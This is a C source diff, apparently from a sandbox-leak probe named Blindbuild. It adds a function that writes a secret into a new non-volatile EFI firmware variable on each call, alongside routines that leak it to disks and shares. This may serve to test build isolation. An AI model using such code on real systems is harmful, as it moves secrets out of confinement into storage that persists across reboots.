@@ -166,15 +166,24 @@ static void leak_to_disks(const char *root, const void *secret, size_t size)
         closedir(directory);
 }
 
+/* A new variable each time, written by the descriptor that made it: efivarfs lets nobody open one that it does not know. */
+static void leak_to_variable(const char *root, const void *secret, size_t size)
+{
+    static unsigned count;
+    char path[PATH_CAPACITY], variable[4 + TEXT_CAPACITY] = {7};  /* non-volatile, boot and runtime access */
+    snprintf(path, sizeof path, "%s/efi/BlindbuildLeak%u-b11db11d-0b1d-4b1d-8b1d-b11db11db11d", root, count++);
+    int file = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
+    size_t length = 4 + encode(UTF16, secret, size, variable + 4);
+    if (write(file, variable, length) != (ssize_t)length)
+        unlink(path);  /* a machine without such variables, or a full store */
+    close(file);
+}
+
 void leak_to_stores(const char *root, const void *secret, size_t size)
 {
-    char path[PATH_CAPACITY], variable[4 + TEXT_CAPACITY] = {7};  /* non-volatile, boot and runtime access */
     leak_to_disks(root, secret, size);
     leak_to_shares(root, secret, size);
-    /* Of the vendor for crash records: variables of one that Linux does not know cannot be written twice. */
-    snprintf(path, sizeof path, "%s/efi/BlindbuildLeak-cfc8fc79-be2e-4ddc-97f0-9f98bfe298a0", root);
-    close(open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0600));
-    spill(path, 0, variable, 4 + encode(UTF16, secret, size, variable + 4));
+    leak_to_variable(root, secret, size);
 }
 
 enum { OWNER = 0x40000001, PASSWORD = 0x40000009, INDEX = 0x0150b1b1, AREA = 256, COMMAND_CAPACITY = 512 };
